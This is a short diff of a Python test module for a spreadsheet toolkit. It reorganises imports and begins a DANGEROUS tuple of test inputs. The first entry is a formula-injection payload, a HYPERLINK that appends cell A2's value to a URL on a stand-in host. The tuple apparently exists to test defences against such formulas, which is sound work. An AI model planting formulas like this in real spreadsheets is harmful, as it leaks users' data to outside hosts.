@@ -13,8 +13,9 @@ import pandas as pd
 import pytest
 from openpyxl import Workbook, load_workbook
 
-from pocmvp.case import factory, firefighting
-from pocmvp.toolkit import cells, report, spreadsheet_engine, workbook
+from pocmvp.case import factory, firefighting, report
+from pocmvp.case import plant_workbook as workbook
+from pocmvp.toolkit import cells, spreadsheet_engine
 
 DANGEROUS = (
     '=HYPERLINK("http://x.example/?"&A2,"x")',
